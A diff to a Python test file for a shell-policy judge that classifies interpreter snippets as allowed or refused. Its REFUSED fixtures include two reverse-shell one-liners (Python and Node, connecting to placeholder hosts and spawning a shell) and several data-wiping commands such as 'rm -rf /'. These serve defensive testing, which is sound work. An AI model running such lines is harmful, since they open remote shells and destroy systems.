@@ -11,7 +11,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from governance.shell.code.trees import rows_of
-from governance.shell.interpreters import judge_code
+from governance.shell.interpreters import code_arguments, judge_code
 from governance.shell.scope import Findings, Scope, Surroundings
 from governance.shell.walk import Walker
 from governance.verdicts import Allowed, Refused, Verdict, strictest
@@ -29,6 +29,7 @@ def judge(name: str, code: str) -> Verdict:
 
 
 FREE = [
+    ("python3", "import socket, subprocess\nprint(socket.gethostname())\nsubprocess.run(['ls'])"),
     ("python3", "print(1)"),
     ("python3", "import json\nprint(json.load(open('data.json'))['a'])"),
     ("python3", "import os; os.system('ls -la')"),
@@ -161,6 +162,14 @@ ASKED = [
 ]
 
 REFUSED = [
+    (
+        "python3",
+        "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',9));os.dup2(s.fileno(),0);pty.spawn('sh')",
+    ),
+    (
+        "node",
+        "const n=require('net'),s=require('child_process').spawn('sh');n.connect(9,'x',function(){this.pipe(s.stdin)})",
+    ),
     ("python3", "import os; os.system('rm -rf /')"),
     ("python3", "for d in ['/etc', '/usr']:\n    import shutil\n    shutil.rmtree(d)"),
     ("python3", "import ctypes; ctypes.CDLL('libc.so.6').system(b'rm -rf /')"),
@@ -262,3 +271,10 @@ def test_ordinary_code_is_judged_within_5_ms_at_the_99th_percentile():
         taken.append(time.thread_time() - began)
 
     assert sorted(taken)[int(len(taken) * 0.99)] < 0.005
+
+
+def test_what_timeit_measures_is_code():
+    assert code_arguments(["-m", "timeit", "-n", "10", "-s", "import os", "os.system('id')"]) == [
+        "import os",
+        "os.system('id')",
+    ]
